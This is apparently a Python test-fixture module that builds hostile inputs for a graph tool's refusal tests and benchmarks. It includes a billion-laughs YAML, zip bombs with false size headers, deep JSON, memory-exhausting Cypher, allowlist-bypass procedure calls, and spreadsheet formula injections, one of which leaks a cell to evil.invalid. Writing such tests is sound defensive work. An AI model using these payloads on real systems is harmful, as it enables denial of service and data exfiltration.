"""Hostile inputs, built small: each attack of issue 11 as bytes, a query or a workbook.

Shared by ``tests/test_hostile.py`` (which asserts the refusals) and
``bench/bench_hostile.py`` (which measures peak memory and time to refusal).
Every builder is bounded: what it makes is at most a few MB on disk, even when
it *declares* or *expands to* gigabytes.
"""

from __future__ import annotations

import copy
import io
import struct
import zipfile
from typing import Any, Final

import yaml

from tests.conftest import MINI

__all__ = [
    "BIG_UNWIND",
    "DOUBLING",
    "FORMULAS",
    "MARKUP",
    "QUADRATIC",
    "QUERY_BYPASSES",
    "billion_laughs",
    "csv_zip_rows",
    "deep_json",
    "hostile_workbook",
    "nul_yaml",
    "xlsx_bomb",
    "xlsx_lying",
    "xlsx_rows",
]

#: Four of these at once grew the embedded server to 23.7 GB before the fix.
BIG_UNWIND: Final = "UNWIND range(1, 1000000000) AS x RETURN count(x)"

#: Grows a string exponentially: FalkorDB neither counts it as query memory nor times it.
DOUBLING: Final = "RETURN size(reduce(s = 'a', x IN range(1, 40) | s + s)) AS n"

#: Quadratic work in one expression, little memory: FalkorDB's time limit does not stop it.
QUADRATIC: Final = "RETURN size(reduce(s = '', x IN range(1, 300000) | s + 'xxxxxxxxxx')) AS n"

#: Procedure calls that went past the allowlist by quoting (all must be refused).
QUERY_BYPASSES: Final = (
    "CALL `algo.pageRank`('Person', 'TIE')",
    "CALL `dbms.procedures`()",
    "CALL `algo`.`pageRank`('Person', 'TIE')",
    "CALL /* quiet */ algo.pageRank('Person', 'TIE')",
    "CALL\n// a comment\n`dbms`.procedures() YIELD name RETURN name",
    "CALL db.idx.fulltext.queryNodes('Person', 'a')",
    "MATCH (p) RETURN `algo.x`(p)",
    "RETURN 1; RETURN 2",
)

#: Cells a spreadsheet would run as formulas.
FORMULAS: Final = (
    '=HYPERLINK("http://evil.invalid/?leak="&A1,"open")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "'=already quoted",
)

#: Console markup that crashed or styled the CLI's output.
MARKUP: Final = "[link=file:///etc/passwd][bold red]open me[/bold red][/link] [/]"


def billion_laughs(levels: int = 9, width: int = 9) -> bytes:
    """A workbook whose aliases stand for ``width ** levels`` values in a few hundred bytes."""
    lines = ["format: collabgraph/1", "district: {id: laughs, name: Laughs}", 'a0: &a0 ["lol"]']
    for i in range(1, levels + 1):
        refs = ", ".join(f"*a{i - 1}" for _ in range(width))
        lines.append(f"a{i}: &a{i} [{refs}]")
    lines.append(f"schools: *a{levels}")
    return ("\n".join(lines) + "\n").encode()


def nul_yaml() -> bytes:
    """The MINI workbook with a NUL byte in a name on a known line (returned with it)."""
    text = yaml.safe_dump(MINI, allow_unicode=True, sort_keys=False)
    return text.replace("Lincoln Elementary", "Lincoln\x00Elementary", 1).encode()


def deep_json(depth: int = 100_000) -> bytes:
    """A JSON document nested ``depth`` lists deep (a RecursionError before the fix)."""
    return b'{"format": "collabgraph/1", "schools": ' + b"[" * depth + b"]" * depth + b"}"


def xlsx_bomb(unpacked_mb: int = 300) -> bytes:
    """An ``.xlsx``-shaped zip whose one sheet inflates to ``unpacked_mb`` MB (about 0.3 MB)."""
    buf = io.BytesIO()
    chunk = b" " * (1024 * 1024)
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            for _ in range(unpacked_mb):
                member.write(chunk)
    return buf.getvalue()


def xlsx_lying(inflates_mb: int = 50) -> bytes:
    """An ``.xlsx``-shaped zip whose sheet declares 1,000 bytes but inflates to more."""
    name = b"xl/worksheets/sheet1.xml"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr(name.decode(), b"<row>" * (inflates_mb * 1024 * 1024 // 5))
    data = bytearray(buf.getvalue())
    # Patch the uncompressed size in the local header (offset 22) and the central
    # directory entry (offset 24) of the sheet.
    for signature, size_at, name_len_at, name_at in (
        (b"PK\x03\x04", 22, 26, 30),
        (b"PK\x01\x02", 24, 28, 46),
    ):
        i = data.find(signature)
        while i >= 0:
            n = struct.unpack("<H", data[i + name_len_at : i + name_len_at + 2])[0]
            if data[i + name_at : i + name_at + n] == name:
                data[i + size_at : i + size_at + 4] = struct.pack("<I", 1000)
            i = data.find(signature, i + 4)
    return bytes(data)


def xlsx_rows(rows: int) -> bytes:
    """A minimal ``.xlsx`` package whose people sheet has ``rows`` rows (built by hand, fast)."""
    row = '<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>p{n}</t></is></c></row>'
    sheet = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + "".join(row.format(n=n) for n in range(1, rows + 2))
        + "</sheetData></worksheet>"
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
        z.writestr("xl/worksheets/sheet1.xml", sheet)
    return buf.getvalue()


def csv_zip_rows(rows: int) -> bytes:
    """A zip of CSV files whose people.csv has ``rows`` rows."""
    body = "id,name\n" + "".join(f"p{i},P{i}\n" for i in range(rows))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("district.csv", "format,id,name\ncollabgraph/1,rows,Rows\n")
        z.writestr("people.csv", body)
    return buf.getvalue()


def hostile_workbook(**district: str) -> dict[str, Any]:
    """MINI with formulas in names, markup in the district name and in a wave label."""
    doc = copy.deepcopy(MINI)
    doc["district"].update({"id": "hostile", "name": MARKUP, **district})
    doc["people"] += [
        {"id": f"p-extra{i}", "side": "labor"} for i in range(len(FORMULAS) - len(doc["people"]))
    ]
    for person, formula in zip(doc["people"], FORMULAS, strict=True):
        person["name"] = formula
    for tie in doc["ties"]:
        tie["wave"] = MARKUP
    return doc
